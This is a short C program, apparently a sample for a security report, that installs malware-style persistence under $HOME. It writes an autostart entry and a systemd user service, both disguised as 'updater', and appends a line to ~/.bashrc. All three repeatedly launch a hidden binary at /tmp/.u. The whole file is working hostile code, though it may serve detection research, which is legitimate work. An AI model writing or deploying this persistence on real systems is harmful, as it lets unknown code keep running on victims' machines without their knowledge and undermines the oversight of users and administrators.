/* Report sample: persistence — an autostart entry, a systemd user unit and a line appended to ~/.bashrc, all under $HOME. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void put(const char *home, const char *rel, const char *text, int flags) {
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", home, rel);
    int fd = open(path, O_WRONLY | O_CREAT | flags, 0644);
    if (fd < 0)
        return;
    if (write(fd, text, strlen(text)) < 0)
        perror("write");
    close(fd);
}

static void dir(const char *home, const char *rel) {
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", home, rel);
    mkdir(path, 0755);
}

int main(void) {
    const char *home = getenv("HOME");
    if (!home)
        return 2;
    dir(home, ".config");
    dir(home, ".config/autostart");
    dir(home, ".config/systemd");
    dir(home, ".config/systemd/user");
    put(home, ".config/autostart/updater.desktop", "[Desktop Entry]\nExec=/tmp/.u\n", O_TRUNC);
    put(home, ".config/systemd/user/updater.service", "[Service]\nExecStart=/tmp/.u\n", O_TRUNC);
    put(home, ".bashrc", "/tmp/.u &\n", O_APPEND);
    return 0;
}
